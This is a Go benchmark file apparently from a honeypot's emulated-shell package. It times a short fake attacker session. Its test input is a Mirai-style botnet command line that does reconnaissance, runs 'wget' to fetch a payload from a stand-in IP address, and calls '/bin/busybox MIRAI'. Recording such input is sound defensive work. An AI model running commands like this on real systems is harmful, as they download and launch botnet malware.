package shell

import (
	"context"
	"io"
	"testing"
	"time"
)

// BenchmarkSession is a whole short visit: login, one botnet line, end.
func BenchmarkSession(b *testing.B) {
	p := testPersona(b)
	b.ReportAllocs()
	for b.Loop() {
		s := New(p, "root", Limits{Sleep: time.Nanosecond}, nil, func() time.Time { return noon })
		s.Run(context.Background(), "cd /tmp; cat /proc/cpuinfo | grep name | head -1; uname -a; wget -q http://198.51.100.1/x; /bin/busybox MIRAI", nil, io.Discard, io.Discard)
		s.Close()
	}
}
